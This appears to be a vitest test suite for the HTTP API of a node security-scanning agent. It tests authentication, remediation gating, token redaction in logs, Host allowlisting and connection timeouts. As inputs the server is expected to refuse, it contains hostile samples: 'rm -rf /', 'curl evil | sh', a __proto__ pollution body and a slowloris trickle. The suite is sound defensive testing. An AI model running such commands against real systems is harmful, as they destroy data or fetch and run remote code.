import { afterAll, describe, expect, it, vi } from "vitest";
import { connect, type Socket } from "node:net";
import { hostAllowed, isLoopbackHost, tokenMatches } from "../../../src/agent/http.js";
import { Log } from "../../../src/agent/log.js";
import { buildServer } from "../../../src/agent/server.js";
import { negotiateReporter } from "../../../src/report/negotiate.js";
import { getReporter, reporters } from "../../../src/report/index.js";
import type { Reporter } from "../../../src/report/types.js";
import { cleanupFixtures } from "../../helpers/fixture-root.js";
import { cleanupPackDirs } from "../../helpers/inline-pack.js";
import { cleanupTempDirs, makeAgent, report, result, samples, TOKEN } from "./helpers.js";

afterAll(async () => {
  await cleanupFixtures();
  await cleanupPackDirs();
  await cleanupTempDirs();
});

const auth = { authorization: `Bearer ${TOKEN}` };
const json = { "content-type": "application/json" };

async function scanned(opts: Parameters<typeof makeAgent>[0] = {}) {
  const t = await makeAgent(opts);
  await t.agent.triggerScan("start").run.done;
  return t;
}

function expectJsonError(res: { statusCode: number; headers: Record<string, unknown>; json(): unknown }, status: number) {
  expect(res.statusCode).toBe(status);
  expect(String(res.headers["content-type"])).toMatch(/^application\/json/);
  const body = res.json() as { error: string; message: string; statusCode: number };
  expect(body.statusCode).toBe(status);
  expect(typeof body.error).toBe("string");
  expect(body.message.length).toBeGreaterThan(0);
  return body;
}

describe("GET routes", () => {
  it("/healthz answers 200 from the start", async () => {
    const { app } = await makeAgent();
    const res = await app.inject({ url: "/healthz" });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual({ status: "ok" });
  });

  it("/readyz is 503 until a scan completed, then 200 ready", async () => {
    const { app, agent } = await makeAgent();
    const before = await app.inject({ url: "/readyz" });
    expect(before.statusCode).toBe(503);
    expect(before.json()).toMatchObject({ ready: false, status: "starting" });
    await agent.triggerScan("start").run.done;
    const after = await app.inject({ url: "/readyz" });
    expect(after.statusCode).toBe(200);
    expect(after.json()).toMatchObject({ ready: true, status: "ready", degraded: [], lastScan: { source: "scan" } });
  });

  it("/readyz is 200 with degraded details when a pack failed to load", async () => {
    const { app, agent } = await makeAgent({
      packs: { "demo/pack.yaml": (await import("./helpers.js")).DEMO_PACK, "broken/pack.yaml": "pack: { id: broken }\nchecks: [\n" },
    });
    await agent.triggerScan("start").run.done;
    const res = await app.inject({ url: "/readyz" });
    expect(res.statusCode).toBe(200);
    const body = res.json() as { status: string; degraded: string[] };
    expect(body.status).toBe("degraded");
    expect(body.degraded.join("\n")).toMatch(/broken\/pack\.yaml:\d+:\d+/);
  });

  it("/metrics serves the text format with per-check series", async () => {
    const { app } = await scanned();
    const res = await app.inject({ url: "/metrics" });
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toMatch(/^text\/plain; version=0\.0\.4/);
    expect(res.body).toContain('nodeward_check_status{pack="demo",id="1.1",severity="high",level="1",waived="false"} 1');
    expect(res.body).toContain('nodeward_check_status{pack="demo",id="1.2",severity="medium",level="",waived="false"} 0');
    expect(res.body).toContain('nodeward_pack_info{pack="demo",benchmark="Demo Benchmark v1",version="1",applies="true"} 1');
    expect(res.body).toContain('nodeward_build_info{version="9.9.9",node="test-node"} 1');
  });

  it("/api/v1/scans/latest: 404 before any scan, JSON by default, other formats by Accept or ?format", async () => {
    const t = await makeAgent();
    expectJsonError(await t.app.inject({ url: "/api/v1/scans/latest" }), 404);
    const stored = await t.agent.triggerScan("start").run.done;
    const res = await t.app.inject({ url: "/api/v1/scans/latest" });
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toMatch(/^application\/json/);
    expect(res.headers["x-nodeward-scan-id"]).toBe(stored.id);
    const body = res.json() as { id: string; results: { id: string; status: string }[]; waivers: unknown[] };
    expect(body.id).toBe(stored.id);
    expect(body.results.map((r) => `${r.id}:${r.status}`)).toEqual(["1.1:pass", "1.2:fail", "2.1:manual", "1.1:pass"]);
    expect(body.waivers).toEqual([]);

    const text = await t.app.inject({ url: "/api/v1/scans/latest", headers: { accept: "text/plain" } });
    expect(text.headers["content-type"]).toMatch(/^text\/plain/);
    expect(text.body).toContain("shadow is private");

    const prom = await t.app.inject({ url: "/api/v1/scans/latest?format=prometheus" });
    expect(prom.body).toContain("nodeward_check_status{");

    expectJsonError(await t.app.inject({ url: "/api/v1/scans/latest?format=nope" }), 400);
    expectJsonError(await t.app.inject({ url: "/api/v1/scans/latest", headers: { accept: "image/png" } }), 406);

    const xml = await t.app.inject({ url: "/api/v1/scans/latest", headers: { accept: "application/xml" } });
    if (getReporter("junit")) {
      expect(xml.statusCode).toBe(200);
      expect(xml.body).toMatch(/<testsuites?[\s>]/);
    } else {
      expect(xml.statusCode).toBe(406);
    }
  });

  it("negotiates over whatever reporters are registered", () => {
    const fake = (name: string, contentType: string): Reporter => ({ name, contentType, extension: name, render: () => name });
    const regs = [fake("table", "text/plain"), fake("json", "application/json"), fake("junit", "application/junit+xml"), fake("html", "text/html; charset=utf-8")];
    expect(negotiateReporter(undefined, regs)?.name).toBe("json");
    expect(negotiateReporter("*/*", regs)?.name).toBe("json");
    expect(negotiateReporter("application/xml", regs)?.name).toBe("junit");
    expect(negotiateReporter("text/html;q=0.9, application/junit+xml", regs)?.name).toBe("junit");
    expect(negotiateReporter("text/html, application/json;q=0.5", regs)?.name).toBe("html");
    expect(negotiateReporter("text/*", regs)?.name).toBe("table");
    expect(negotiateReporter("image/png", regs)).toBeUndefined();
    expect(negotiateReporter("application/xml", regs.filter((r) => r.name !== "junit"))).toBeUndefined();
    // The real registry always offers json.
    expect(negotiateReporter(undefined)?.name).toBe("json");
    expect(Object.keys(reporters)).toContain("prometheus");
  });

  it("/api/v1/scans lists history newest first, with ?limit", async () => {
    const t = await makeAgent();
    const a = await t.agent.triggerScan("start").run.done;
    const b = await t.agent.triggerScan("api").run.done;
    const res = await t.app.inject({ url: "/api/v1/scans" });
    expect(res.statusCode).toBe(200);
    const body = res.json() as { running: unknown; scans: { id: string; trigger: string; summary: { pass: number }; eventLoopDelayMs: { p99: number } }[] };
    expect(body.running).toBeNull();
    expect(body.scans.map((s) => s.id)).toEqual([b.id, a.id]);
    expect(body.scans[0]).toMatchObject({ trigger: "api", summary: { pass: 2, fail: 1, manual: 1 } });
    expect(typeof body.scans[0]?.eventLoopDelayMs.p99).toBe("number");
    const limited = await t.app.inject({ url: "/api/v1/scans?limit=1" });
    expect((limited.json() as { scans: unknown[] }).scans).toHaveLength(1);
    expectJsonError(await t.app.inject({ url: "/api/v1/scans?limit=-1" }), 400);
    expectJsonError(await t.app.inject({ url: "/api/v1/scans?bogus=1" }), 400);
  });

  it("/api/v1/checks lists the catalog with the latest status", async () => {
    const t = await scanned();
    const res = await t.app.inject({ url: "/api/v1/checks" });
    expect(res.statusCode).toBe(200);
    const body = res.json() as { checks: { key: string; status?: string; fix?: string }[] };
    expect(body.checks.map((c) => `${c.key}:${c.status}`)).toEqual(["demo/1.1:pass", "demo/1.2:fail", "demo/2.1:manual", "other/1.1:pass"]);
    expect(body.checks[0]?.fix).toBe("file-mode");
    const failing = await t.app.inject({ url: "/api/v1/checks?status=fail" });
    expect((failing.json() as { checks: { key: string }[] }).checks.map((c) => c.key)).toEqual(["demo/1.2"]);
    expectJsonError(await t.app.inject({ url: "/api/v1/checks?status=bogus" }), 400);
  });

  it("/api/v1/checks/:id gives catalog + latest result; 404 unknown; 409 ambiguous", async () => {
    const t = await scanned();
    const one = await t.app.inject({ url: "/api/v1/checks/1.2" });
    expect(one.statusCode).toBe(200);
    expect(one.json()).toMatchObject({ key: "demo/1.2", title: "passwd is not world-writable", result: { status: "fail", id: "1.2" } });
    const byKey = await t.app.inject({ url: "/api/v1/checks/other/1.1" });
    expect(byKey.json()).toMatchObject({ key: "other/1.1", result: { status: "pass" } });
    const encoded = await t.app.inject({ url: "/api/v1/checks/demo%2F1.1" });
    expect(encoded.json()).toMatchObject({ key: "demo/1.1" });
    const body = expectJsonError(await t.app.inject({ url: "/api/v1/checks/9.9.9" }), 404);
    expect(body.message).toContain("9.9.9");
    expectJsonError(await t.app.inject({ url: "/api/v1/checks/nope/1.1" }), 404);
    expectJsonError(await t.app.inject({ url: "/api/v1/checks/1.1" }), 409);
  });

  it("before any scan a known check has result null", async () => {
    const t = await makeAgent();
    const res = await t.app.inject({ url: "/api/v1/checks/demo/1.1" });
    expect(res.statusCode).toBe(200);
    expect((res.json() as { result: unknown }).result).toBeNull();
  });

  it("an unknown route is a JSON 404", async () => {
    const { app } = await makeAgent();
    expectJsonError(await app.inject({ url: "/nope" }), 404);
  });
});

describe("POST /api/v1/scans", () => {
  it("refuses without a token and with a wrong one (401, WWW-Authenticate)", async () => {
    const { app, agent } = await makeAgent();
    for (const headers of [{}, { authorization: "Bearer wrong" }, { authorization: `Basic ${TOKEN}` }, { authorization: `Bearer ${TOKEN}x` }, { authorization: "Bearer" }]) {
      const res = await app.inject({ method: "POST", url: "/api/v1/scans", headers });
      expectJsonError(res, 401);
      expect(res.headers["www-authenticate"]).toMatch(/^Bearer/);
    }
    expect(agent.scheduler.scansStarted).toBe(0);
  });

  it("refuses everything when no token is configured", async () => {
    const { app } = await makeAgent({ server: { token: undefined } });
    const body = expectJsonError(await app.inject({ method: "POST", url: "/api/v1/scans", headers: { authorization: "Bearer " } }), 401);
    expect(body.message).toMatch(/no API token/);
  });

  it("answers 202 with the scan id; a second trigger during the scan joins it", async () => {
    let release!: () => void;
    const gate = new Promise<void>((r) => (release = r));
    const scan = vi.fn(async () => {
      await gate;
      return report([result("demo", "1.1", "pass")]);
    });
    const { app, agent } = await makeAgent({ scan });
    const a = await app.inject({ method: "POST", url: "/api/v1/scans", headers: auth });
    expect(a.statusCode).toBe(202);
    expect(a.headers.location).toBe("/api/v1/scans/latest");
    const b = await app.inject({ method: "POST", url: "/api/v1/scans", headers: { ...auth, ...json }, payload: "{}" });
    expect(b.statusCode).toBe(202);
    const ja = a.json() as { id: string; joined: boolean };
    const jb = b.json() as { id: string; joined: boolean };
    expect(ja.joined).toBe(false);
    expect(jb).toMatchObject({ id: ja.id, joined: true });
    const running = await app.inject({ url: "/api/v1/scans" });
    expect((running.json() as { running: { id: string } }).running.id).toBe(ja.id);
    release();
    await agent.scheduler.running?.done;
    expect(scan).toHaveBeenCalledTimes(1);
    const latest = await app.inject({ url: "/api/v1/scans/latest" });
    expect((latest.json() as { id: string }).id).toBe(ja.id);
  });

  it("accepts an empty JSON body; refuses unknown keys (422), bad JSON (400), big bodies (413), other types (415)", async () => {
    const { app } = await makeAgent({ scan: async () => report([]) });
    expect((await app.inject({ method: "POST", url: "/api/v1/scans", headers: { ...auth, ...json }, payload: "" })).statusCode).toBe(202);
    expectJsonError(await app.inject({ method: "POST", url: "/api/v1/scans", headers: { ...auth, ...json }, payload: '{"command":"rm -rf /"}' }), 422);
    expectJsonError(await app.inject({ method: "POST", url: "/api/v1/scans", headers: { ...auth, ...json }, payload: "[1,2]" }), 422);
    expectJsonError(await app.inject({ method: "POST", url: "/api/v1/scans", headers: { ...auth, ...json }, payload: '{"a":' }), 400);
    expectJsonError(await app.inject({ method: "POST", url: "/api/v1/scans", headers: { ...auth, ...json }, payload: `{"a":"${"x".repeat(20_000)}"}` }), 413);
    expectJsonError(await app.inject({ method: "POST", url: "/api/v1/scans", headers: { ...auth, "content-type": "text/plain" }, payload: "scan please" }), 415);
  });

  it("checks the token before reading the body (a malformed body without a token is 401)", async () => {
    const { app } = await makeAgent();
    expectJsonError(await app.inject({ method: "POST", url: "/api/v1/scans", headers: json, payload: '{"a":' }), 401);
  });
});

describe("POST /api/v1/remediations", () => {
  const url = "/api/v1/remediations";
  const on = "remediation: { allowApi: true }\n";

  it("refuses without a token and with a wrong one (401), whether or not the switch is on", async () => {
    for (const configYaml of ["", on]) {
      const remediate = vi.fn(async () => ({ ok: true }));
      const { app } = await makeAgent({ configYaml, server: { remediate } });
      for (const headers of [{}, { authorization: "Bearer wrong" }]) {
        expectJsonError(await app.inject({ method: "POST", url, headers: { ...headers, ...json }, payload: { checks: ["demo/1.1"] } }), 401);
      }
      expect(remediate).not.toHaveBeenCalled();
    }
  });

  it("is 403 when remediation.allowApi is off (the default), even with the token", async () => {
    const remediate = vi.fn(async () => ({ ok: true }));
    const { app } = await makeAgent({ server: { remediate } });
    const body = expectJsonError(await app.inject({ method: "POST", url, headers: { ...auth, ...json }, payload: { checks: ["demo/1.1"] } }), 403);
    expect(body.message).toMatch(/allowApi/);
    expect(remediate).not.toHaveBeenCalled();
  });

  it("accepts only {checks: string[]}: a command key or anything else is refused with 422", async () => {
    const remediate = vi.fn(async () => ({ ok: true }));
    const { app } = await makeAgent({ configYaml: on, server: { remediate } });
    for (const payload of [
      { checks: ["demo/1.1"], command: "rm -rf /" },
      { command: "curl evil | sh" },
      { checks: "demo/1.1" },
      { checks: [] },
      { checks: [42] },
      { checks: ["demo/1.1", "demo/1.1"] },
      { checks: ["demo/1.1"], params: { mode: "0777" } },
    ]) {
      const res = await app.inject({ method: "POST", url, headers: { ...auth, ...json }, payload });
      expectJsonError(res, 422);
    }
    const cmd = await app.inject({ method: "POST", url, headers: { ...auth, ...json }, payload: { checks: ["demo/1.1"], command: "id" } });
    expect((cmd.json() as { message: string }).message).toContain('"command"');
    expect(remediate).not.toHaveBeenCalled();
  });

  it("bad JSON is 400, an oversized body 413, a missing body 422 — never 5xx", async () => {
    const { app } = await makeAgent({ configYaml: on, server: { remediate: async () => null } });
    expectJsonError(await app.inject({ method: "POST", url, headers: { ...auth, ...json }, payload: '{"checks": [' }), 400);
    expectJsonError(await app.inject({ method: "POST", url, headers: { ...auth, ...json }, payload: '{"__proto__": {"x": 1}, "checks": ["demo/1.1"]}' }), 400);
    expectJsonError(await app.inject({ method: "POST", url, headers: { ...auth, ...json }, payload: JSON.stringify({ checks: Array.from({ length: 2000 }, (_, i) => `demo/${i}.${i}`) }) }), 413);
    expectJsonError(await app.inject({ method: "POST", url, headers: auth }), 422);
  });

  it("unknown ids are 404, ambiguous bare ids 409, checks without a typed fix 422", async () => {
    const remediate = vi.fn(async () => ({ ok: true }));
    const { app } = await makeAgent({ configYaml: on, server: { remediate } });
    const nf = expectJsonError(await app.inject({ method: "POST", url, headers: { ...auth, ...json }, payload: { checks: ["demo/1.1", "demo/9.9"] } }), 404);
    expect(nf.message).toContain("demo/9.9");
    expectJsonError(await app.inject({ method: "POST", url, headers: { ...auth, ...json }, payload: { checks: ["1.1"] } }), 409);
    expectJsonError(await app.inject({ method: "POST", url, headers: { ...auth, ...json }, payload: { checks: ["demo/1.2"] } }), 422);
    expect(remediate).not.toHaveBeenCalled();
  });

  it("without a remediation engine the answer is 501 JSON", async () => {
    const { app } = await makeAgent({ configYaml: on });
    expectJsonError(await app.inject({ method: "POST", url, headers: { ...auth, ...json }, payload: { checks: ["demo/1.1"] } }), 501);
  });

  it("with the token, the switch and a hook, calls the hook with pack-qualified keys only", async () => {
    const remediate = vi.fn(async (keys: string[]) => ({ applied: keys }));
    const { app } = await makeAgent({ configYaml: on, server: { remediate } });
    const res = await app.inject({ method: "POST", url, headers: { ...auth, ...json }, payload: { checks: ["demo/1.1"] } });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual({ checks: ["demo/1.1"], result: { applied: ["demo/1.1"] } });
    expect(remediate).toHaveBeenCalledWith(["demo/1.1"]);
  });

  it("a second remediation while one runs is 409", async () => {
    let release!: () => void;
    const gate = new Promise<void>((r) => (release = r));
    const { app } = await makeAgent({ configYaml: on, server: { remediate: async () => gate } });
    const first = app.inject({ method: "POST", url, headers: { ...auth, ...json }, payload: { checks: ["demo/1.1"] } });
    await new Promise((r) => setTimeout(r, 20));
    expectJsonError(await app.inject({ method: "POST", url, headers: { ...auth, ...json }, payload: { checks: ["demo/1.1"] } }), 409);
    release();
    expect((await first).statusCode).toBe(200);
  });
});

describe("logging and token comparison", () => {
  function capture() {
    const lines: string[] = [];
    const log = new Log({ level: "debug", format: "json", stream: { write: (l: string) => lines.push(l) } });
    return { lines, log };
  }

  it("request logs never contain the bearer token", async () => {
    const { lines, log } = capture();
    const t = await makeAgent();
    const app = buildServer({ agent: t.agent, token: TOKEN, logger: log });
    await app.inject({ method: "POST", url: "/api/v1/scans", headers: { authorization: "Bearer not-the-token-secret" } });
    await app.inject({ method: "POST", url: "/api/v1/scans", headers: auth });
    await t.agent.scheduler.running?.done;
    const text = lines.join("");
    expect(text).toContain("/api/v1/scans");
    expect(text).not.toContain(TOKEN);
    expect(text).not.toContain("not-the-token-secret");
  });

  it("a token in the query string is never logged, whether it is right, wrong or refused", async () => {
    const { lines, log } = capture();
    const t = await scanned();
    const app = buildServer({ agent: t.agent, token: TOKEN, logger: log, readsNeedToken: true });
    const secret = "query-secret-0123456789abcdef";
    const urls = [
      `/api/v1/scans/latest?access_token=${secret}`,
      `/api/v1/scans/latest?access_token=${TOKEN}`,
      `/api/v1/checks?status=fail&access_token=${TOKEN}`,
      `/nope?access_token=${secret}`,
      `/api/v1/scans/latest?token=${secret}`,
      `/api/v1/checks?status=bogus&access_token=${secret}`,
    ];
    const codes: number[] = [];
    for (const url of urls) codes.push((await app.inject({ url })).statusCode);
    codes.push((await app.inject({ url: `/api/v1/checks?access_token=${secret}`, headers: { host: "evil.example" } })).statusCode);
    codes.push((await app.inject({ method: "POST", url: `/api/v1/scans?access_token=${TOKEN}` })).statusCode);
    // A right query token opens reads (RFC 6750 §2.3); never a POST.
    expect(codes).toEqual([401, 200, 200, 401, 401, 401, 403, 401]);
    const text = lines.join("");
    expect(lines.length).toBeGreaterThan(4);
    expect(text).not.toContain(secret);
    expect(text).not.toContain(TOKEN);
    expect(text).not.toContain("access_token=");
  });

  it("tokenMatches: exact bearer only", () => {
    expect(tokenMatches(`Bearer ${TOKEN}`, TOKEN)).toBe(true);
    expect(tokenMatches(`bearer ${TOKEN}`, TOKEN)).toBe(true);
    expect(tokenMatches(`Bearer ${TOKEN} `, TOKEN)).toBe(true);
    expect(tokenMatches(`Bearer ${TOKEN.slice(0, -1)}`, TOKEN)).toBe(false);
    expect(tokenMatches(`Bearer ${TOKEN}`, undefined)).toBe(false);
    expect(tokenMatches(undefined, TOKEN)).toBe(false);
    expect(tokenMatches(TOKEN, TOKEN)).toBe(false);
  });
});

describe("metrics over HTTP follow the waivers of the day", () => {
  it("a waiver expiring between scrapes drops out of /metrics without a new scan", async () => {
    let now = new Date("2026-11-22T12:00:00Z");
    const t = await makeAgent({
      configYaml: 'waivers:\n  - { check: demo/1.2, reason: "vendor image", expires: 2026-11-22 }\n',
      now: () => now,
    });
    await t.agent.triggerScan("start").run.done;
    let m = (await t.app.inject({ url: "/metrics" })).body;
    expect(samples(m, "nodeward_waived_checks")).toEqual(["nodeward_waived_checks 1"]);
    // Every reporter sees the scan's id and trigger and each result's waiver (no cast in the route).
    const before = (await t.app.inject({ url: "/api/v1/scans/latest" })).json() as { trigger: string; results: { id: string; pack: string; waiver?: unknown }[] };
    expect(before.trigger).toBe("start");
    expect(before.results.find((r) => r.pack === "demo" && r.id === "1.2")?.waiver).toEqual({ reason: "vendor image", expires: "2026-11-22" });
    expect(m).toContain('id="1.2",severity="medium",level="",waived="true"} 0');
    now = new Date("2026-11-23T00:00:01Z");
    m = (await t.app.inject({ url: "/metrics" })).body;
    expect(samples(m, "nodeward_waived_checks")).toEqual(["nodeward_waived_checks 0"]);
    expect(samples(m, "nodeward_expired_waivers")).toEqual(["nodeward_expired_waivers 1"]);
    expect(m).not.toContain('waived="true"');
    const latest = (await t.app.inject({ url: "/api/v1/scans/latest" })).json() as { waivers: { state: string }[] };
    expect(latest.waivers).toMatchObject([{ check: "demo/1.2", state: "expired" }]);
  });
});

describe("access: token off loopback, Host allowlist", () => {
  const reads = ["/api/v1/scans/latest", "/api/v1/scans", "/api/v1/checks", "/api/v1/checks/demo/1.1", "/api/v1/checks/1.2", "/nope"];

  it("listening off loopback: every read but /healthz, /readyz and /metrics is 401 without the token, 200 with it", async () => {
    const t = await scanned({ server: { readsNeedToken: true } });
    for (const url of reads) {
      const res = await t.app.inject({ url });
      expectJsonError(res, 401);
      expect(res.headers["www-authenticate"]).toMatch(/^Bearer/);
      expect(res.body).not.toContain("shadow");
    }
    for (const url of ["/healthz", "/readyz", "/metrics"]) expect((await t.app.inject({ url })).statusCode, url).toBe(200);
    for (const url of reads.slice(0, -1)) expect((await t.app.inject({ url, headers: auth })).statusCode, url).toBe(200);
    expect((await t.app.inject({ url: `/api/v1/scans/latest?access_token=${TOKEN}` })).statusCode).toBe(200);
    expectJsonError(await t.app.inject({ url: "/api/v1/scans/latest?access_token=wrong" }), 401);
  });

  it("on loopback reads stay open and POST still needs the token", async () => {
    const t = await scanned();
    for (const url of reads.slice(0, -1)) expect((await t.app.inject({ url })).statusCode, url).toBe(200);
    expectJsonError(await t.app.inject({ method: "POST", url: "/api/v1/scans" }), 401);
  });

  it("a foreign Host is refused on every route (DNS rebinding); IPs, localhost and configured names are served", async () => {
    const t = await scanned({ server: { allowedHosts: ["agent.example.com", ".nodes.example.net"] } });
    for (const url of ["/healthz", "/metrics", "/api/v1/scans/latest", "/nope"]) {
      for (const host of ["evil.example", "evil.example:9850", "agent.example.com.evil.example", "nodes.example.net.evil"]) {
        const res = await t.app.inject({ url, headers: { host } });
        expect(res.statusCode, `${url} Host: ${host}`).toBe(403);
        const body = expectJsonError(res, 403);
        if (host) expect(body.message).toContain(host.slice(0, 20));
      }
    }
    for (const host of ["127.0.0.1:9850", "[::1]:9850", "10.1.2.3", "localhost", "LOCALHOST:9850", "agent.localhost", "agent.example.com", "AGENT.example.com.:9850", "n1.nodes.example.net"]) {
      expect((await t.app.inject({ url: "/api/v1/scans/latest", headers: { host } })).statusCode, host).toBe(200);
    }
  });

  it("hostAllowed and isLoopbackHost", () => {
    expect(hostAllowed(undefined, [])).toBe(false);
    expect(hostAllowed("[::1", [])).toBe(false);
    expect(hostAllowed("[fe80::1]:80", [])).toBe(true);
    expect(hostAllowed("192.168.0.1:1", [])).toBe(true);
    expect(hostAllowed("x.example", [".example"])).toBe(true);
    expect(hostAllowed("example", [".example"])).toBe(true);
    expect(hostAllowed("xexample", [".example"])).toBe(false);
    for (const h of ["127.0.0.1", "127.1.2.3", "::1", "[::1]", "localhost"]) expect(isLoopbackHost(h), h).toBe(true);
    for (const h of ["0.0.0.0", "::", "10.0.0.1", "node1"]) expect(isLoopbackHost(h), h).toBe(false);
  });
});

describe("connections are closed on time", () => {
  /** Resolves with the ms until the server closed the socket (or rejects after `maxMs`). */
  function closedAfter(port: number, maxMs: number, act: (s: Socket) => void): Promise<number> {
    return new Promise((resolve, reject) => {
      const t0 = performance.now();
      const s = connect(port, "127.0.0.1", () => act(s));
      const timer = setTimeout(() => {
        s.destroy();
        reject(new Error(`still open after ${maxMs} ms`));
      }, maxMs);
      s.on("data", () => undefined);
      s.on("error", () => undefined);
      s.on("close", () => {
        clearTimeout(timer);
        resolve(performance.now() - t0);
      });
    });
  }

  it("a connection that sends nothing, one that trickles headers, and an idle keep-alive one", async () => {
    const t = await makeAgent({ server: { limits: { headersMs: 600, requestMs: 1200, idleMs: 800, keepAliveMs: 300 } } });
    await t.app.listen({ host: "127.0.0.1", port: 0 });
    try {
      const port = (t.app.server.address() as { port: number }).port;
      const silent = closedAfter(port, 5000, () => undefined);
      // Slowloris: a header byte every 100 ms keeps the socket busy but never finishes the headers.
      let trickle: NodeJS.Timeout | undefined;
      const slow = closedAfter(port, 5000, (s) => {
        s.write("GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n");
        trickle = setInterval(() => s.writable && s.write("X"), 100);
      });
      const keepAlive = closedAfter(port, 5000, (s) => s.write("GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"));
      const [a, b, c] = await Promise.all([silent, slow, keepAlive]);
      clearInterval(trickle);
      // Silent: the header deadline (600 ms) or the idle timeout (800 ms), whichever Node checks first.
      expect(a).toBeGreaterThanOrEqual(550);
      expect(a).toBeLessThan(3000);
      expect(b).toBeGreaterThanOrEqual(500);
      expect(b).toBeLessThan(3000);
      expect(c).toBeGreaterThanOrEqual(250);
      expect(c).toBeLessThan(2000);
    } finally {
      await t.app.close();
    }
  });
});
